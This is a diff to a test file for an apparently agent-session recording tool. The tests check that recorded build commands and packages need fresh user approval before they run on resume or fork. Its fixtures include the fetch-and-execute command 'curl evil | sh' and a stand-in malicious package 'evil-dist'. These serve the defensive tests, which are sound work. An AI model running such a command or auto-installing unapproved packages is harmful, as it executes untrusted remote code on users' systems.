@@ -5,6 +5,7 @@ import json
 import resource
 import subprocess
 import sys
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -237,12 +238,54 @@ def test_what_a_recorded_environment_wants_beyond_known_packages_only_its_user_a
 def test_recorded_build_commands_are_shown_and_run_by_nobody_unasked():
     from codetape.domain.job import BuildSpec
     from codetape.domain.task import SandboxFacts
-    from codetape.rules.build_approval import check_approved, unapproved
+    from codetape.rules.build_approval import Approval, unapproved
 
     spec = BuildSpec(python_version="3.11", packages=("pandas",), commands=("curl evil | sh",))
     facts = SandboxFacts(name="docker", python="3.11", commands=True)
-    assert unapproved(spec, facts) == ("the command 'curl evil | sh'",)
-    with pytest.raises(UsageError, match="curl evil"):
-        check_approved(spec, facts, allowed=False)
-    check_approved(spec, facts, allowed=True)
+    assert unapproved(spec, facts) == ("run:curl evil | sh",)
+    with pytest.raises(UsageError, match="the command 'curl evil | sh'"):
+        Approval().check(spec, facts)
+    Approval(approve=True).check(spec, facts)
+    asked = []
+    Approval(approve=lambda wanted: not asked.append(wanted)).check(spec, facts)
+    assert asked == [("the command 'curl evil | sh'",)]
     assert unapproved(spec.model_copy(update={"commands": ()}), facts) == ()
+
+
+@pytest.mark.parametrize("verb", ["resume", "fork"])
+def test_a_recorded_session_that_goes_on_builds_what_its_user_allows_and_not_what_its_recorder_did(verb):
+    """The recorder allowed any package and took one: whoever continues the session is asked again."""
+    from codetape import AutoCoderAgent
+    from codetape.domain.task import SandboxFacts
+    from codetape.testing import FakeSandbox, MemoryStore, ScriptedModel
+    from tests.support import ADD, ADD_TESTS, generate, plan
+
+    facts = SandboxFacts(name="fake", python="3.11", commands=True)
+    script = {"plan": [plan()], "code": [ADD], "tests": [ADD_TESTS]}
+    recorder = MemoryStore()
+    made, _ = generate(
+        script, sandbox=FakeSandbox(facts=facts), store=recorder, packages=("evil-dist",), package_policy="allow"
+    )
+    stream = asyncio.run(recorder.read(made.session))
+    before_build = next(e.seq for e in stream.events if e.kind == "Requested" and e.payload.effect == "build")
+    here = MemoryStore()
+    here.put(stream if verb == "fork" else replace(stream, events=stream.events[:before_build]))
+    built = []
+    sandbox = FakeSandbox(facts=facts, build=lambda spec: built.append(spec) or Built(spec.name, "", cached=False))
+
+    def go_on(session, **settings):
+        agent = AutoCoderAgent(model=ScriptedModel(script), sandbox=sandbox, store=here, **settings)
+        if verb == "fork":
+            return asyncio.run(agent.afork(session, before_build - 1))
+        return asyncio.run(agent.aresume(session))
+
+    refused = go_on(made.session)
+    assert refused.status == "suspended"
+    assert "asks for the package evil-dist. Look at it, then allow it with --allow-build." in refused.reason
+    assert (built, sandbox.jobs) == ([], [])
+    asked = []
+    assert go_on(made.session, allow_build=lambda wanted: bool(asked.append(wanted))).status == "suspended"
+    assert (asked, built) == ([("the package evil-dist",)], [])
+    settings = {"packages": ("evil-dist",)} if verb == "fork" else {"allow_build": True}
+    assert go_on(made.session, **settings).succeeded, "the control: with the user's word it goes on"
+    assert built
